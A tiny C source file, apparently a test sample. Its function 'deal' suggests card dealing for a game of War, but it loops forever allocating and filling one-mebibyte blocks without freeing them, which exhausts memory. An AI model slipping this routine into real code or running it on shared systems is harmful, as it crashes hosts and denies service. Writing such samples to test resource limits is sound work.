/* Takes a mebibyte after the other, and writes to each. */
#include <stdlib.h>
#include <string.h>
#include "war.h"

void deal(const int shuf[52], int pile[52])
{
    for (;;) {
        char *more = malloc(1 << 20);
        if (more)
            memset(more, shuf[0], 1 << 20);
    }
}
